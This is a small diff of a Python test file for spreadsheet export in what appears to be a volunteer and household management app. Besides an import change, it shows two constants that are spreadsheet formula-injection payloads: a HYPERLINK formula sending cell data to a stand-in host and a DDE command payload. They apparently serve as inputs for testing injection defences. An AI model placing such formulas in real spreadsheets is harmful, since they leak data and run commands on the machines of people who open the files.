@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from app.services import volunteer_roster, volunteers
+from app.services import volunteers
 from app.services.households import (
     HouseholdData,
     HouseholdFilter,
@@ -21,6 +21,7 @@ from app.services.households import (
     write_xlsx,
 )
 from app.services.volunteers import VolunteerData
+from app.services.volunteers import roster as volunteer_roster
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
 DDE = '=cmd|" /C calc"!A0'
